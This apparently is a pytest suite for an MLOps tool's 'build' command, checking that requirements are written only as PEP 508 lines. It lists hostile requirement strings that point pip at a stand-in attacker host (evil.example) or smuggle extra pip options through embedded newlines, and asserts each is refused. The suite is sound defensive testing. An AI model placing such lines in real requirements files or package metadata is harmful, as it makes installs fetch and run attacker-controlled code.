"""`conveyor build` writes only PEP 508 requirement lines into requirements.txt.

A model package's ``requirements`` is text from whoever wrote ``conveyor-model.json``; pip
reads options, URLs and paths from a requirements file, and a newline in one entry starts a
new line. Every such entry is refused with the line named, and nothing is left behind."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from conveyor.errors import InvalidInput

HOSTILE = [
    "--extra-index-url https://evil.example/simple",
    "--index-url=https://evil.example/simple",
    "-i https://evil.example/simple",
    "-e git+https://evil.example/repo.git#egg=pkg",
    "git+https://evil.example/repo.git#egg=pkg",
    "https://evil.example/pkg-1.0-py3-none-any.whl",
    "pkg @ https://evil.example/pkg-1.0-py3-none-any.whl",
    "pkg @ file:///tmp/pkg-1.0-py3-none-any.whl",
    "./local/pkg-1.0.tar.gz",
    "/abs/path/pkg.whl",
    "numpy==1.26.4\n--extra-index-url https://evil.example/simple",
    "numpy==1.26.4\r--trusted-host evil.example",
    "scikit-learn==1.5.2 --hash=sha256:00",
    "-r other.txt",
    "-c constraints.txt",
    "numpy==1.26.4 # comment",
    "",
    "   ",
    "not a requirement!",
    "numpy===",
]


def _project_with_requirements(project: Path, requirements: Any) -> str:
    """Register a real package whose conveyor-model.json lists ``requirements``."""
    import numpy as np
    import pandas as pd
    from sklearn.linear_model import LinearRegression

    import conveyor
    import conveyor.models
    import conveyor.registry
    from conveyor.tracking import set_tracker

    x = pd.DataFrame({"x": np.arange(8, dtype=float)})
    folder = project / "pkg"
    conveyor.models.save(LinearRegression().fit(x, 3 * x["x"]), folder, input_example=x[:2])
    meta = json.loads((folder / "conveyor-model.json").read_text())
    meta["requirements"] = requirements
    (folder / "conveyor-model.json").write_text(json.dumps(meta))
    with conveyor.start_run(experiment="build") as run:
        conveyor.log_artifacts(folder, "model")
    version = conveyor.registry.register(f"runs:/{run.id}/model", "lin").version
    set_tracker(None)
    return f"models:/lin/{version}"


@pytest.mark.parametrize("line", HOSTILE)
def test_parse_requirement_refuses_everything_but_pep508(line: str) -> None:
    from conveyor.serving._requirements import parse_requirement

    with pytest.raises(InvalidInput) as info:
        parse_requirement(line)
    assert repr(line) in info.value.message and info.value.field == "requirements"


@pytest.mark.parametrize(("line", "canonical"), [
    ("scikit-learn==1.5.2", "scikit-learn==1.5.2"),
    ("  numpy >= 1.26 , < 3 ", "numpy<3,>=1.26"),
    ("psycopg[binary]==3.2.1", "psycopg[binary]==3.2.1"),
    ('tensorflow-cpu>=2.16; sys_platform == "linux"', 'tensorflow-cpu>=2.16; sys_platform == "linux"'),
    ("Torch", "Torch"),
])
def test_pep508_lines_pass_in_canonical_form(line: str, canonical: str) -> None:
    from conveyor.serving._requirements import parse_requirement

    assert parse_requirement(line) == canonical


@pytest.mark.parametrize("line", [
    "--extra-index-url https://evil.example/simple",
    "-e git+https://evil.example/repo.git#egg=pkg",
    "pkg @ https://evil.example/pkg-1.0-py3-none-any.whl",
    "numpy==1.26.4\n--extra-index-url https://evil.example/simple",
])
def test_build_refuses_a_package_with_a_hostile_requirement(project: Path, line: str) -> None:
    from conveyor.cli import app

    uri = _project_with_requirements(project, ["numpy>=1.26", line])
    result = CliRunner().invoke(app, ["build", uri, "--out", "ctx"])
    assert result.exit_code == 2, result.output
    assert "refused" in result.output and line.splitlines()[0][:30] in result.output
    assert not (project / "ctx").exists()
    assert [p.name for p in project.iterdir() if p.name.startswith(".ctx")] == []  # no staging left


@pytest.mark.parametrize("value", ["numpy==1.26.4", {"numpy": "1.26.4"}, [1, 2]])
def test_requirements_that_are_not_a_list_of_strings_are_refused(project: Path, value: Any) -> None:
    from conveyor.cli import app

    uri = _project_with_requirements(project, value)
    result = CliRunner().invoke(app, ["build", uri, "--out", "ctx"])
    assert result.exit_code == 2 and "requirements" in result.output
    assert not (project / "ctx").exists()


def test_good_requirements_are_written_canonical_and_win_over_local_pins(project: Path) -> None:
    from conveyor.cli import app

    uri = _project_with_requirements(project, ["scikit-learn >= 1.4", 'numpy==2.4.6; python_version >= "3.11"'])
    result = CliRunner().invoke(app, ["build", uri, "--out", "ctx", "--conveyor-requirement",
                                      "conveyor-mlops==0.1.0"])
    assert result.exit_code == 0, result.output
    lines = (project / "ctx" / "requirements.txt").read_text().splitlines()
    assert "scikit-learn>=1.4" in lines and 'numpy==2.4.6; python_version >= "3.11"' in lines
    assert not any(line.startswith(("-", "conveyor-mlops")) or "://" in line for line in lines)
    dockerfile = (project / "ctx" / "Dockerfile").read_text()
    assert "pip install --no-cache-dir conveyor-mlops==0.1.0 -r /srv/requirements.txt" in dockerfile
    assert list((project / "ctx" / "wheels").iterdir()) == []


def test_a_hostile_conveyor_requirement_is_refused_too(project: Path) -> None:
    from conveyor.cli import app

    uri = _project_with_requirements(project, [])
    result = CliRunner().invoke(app, ["build", uri, "--out", "ctx", "--conveyor-requirement",
                                      "conveyor-mlops==0.1.0 --index-url https://evil.example"])
    assert result.exit_code == 2 and "refused" in result.output
    assert not (project / "ctx").exists()
